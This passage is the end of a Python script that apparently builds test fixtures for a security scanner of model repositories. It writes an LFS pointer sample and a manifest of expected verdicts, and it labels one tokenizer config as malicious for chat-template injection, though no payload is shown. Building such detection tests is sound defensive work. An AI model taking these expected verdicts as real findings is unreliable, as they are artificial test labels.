    ROWS.append((f"{d}/tokenizer_config.json", "malicious", "hf-chat-template",
                 "chat_template SSTI (judged by the Jinja analyser)"))


def lfs():
    # Not in MANIFEST: a pointer is `not analysed`, neither benign-clean nor malicious. hfrepo.rs tests it.
    write("lfs/model.safetensors", "version https://git-lfs.github.com/spec/v1\n"
          "oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 2684354560\n")
    write("lfs/config.json", js(LLAMA_CONFIG))


def main():
    for sub in ("benign", "malicious", "lfs"):
        shutil.rmtree(os.path.join(HERE, sub), ignore_errors=True)
    benign()
    malicious()
    lfs()
    with open(os.path.join(HERE, "MANIFEST.tsv"), "w") as f:
        f.write("path\texpected\tclass\tdescription\n")
        for row in sorted(ROWS):
            f.write("\t".join(row) + "\n")


if __name__ == "__main__":
    main()
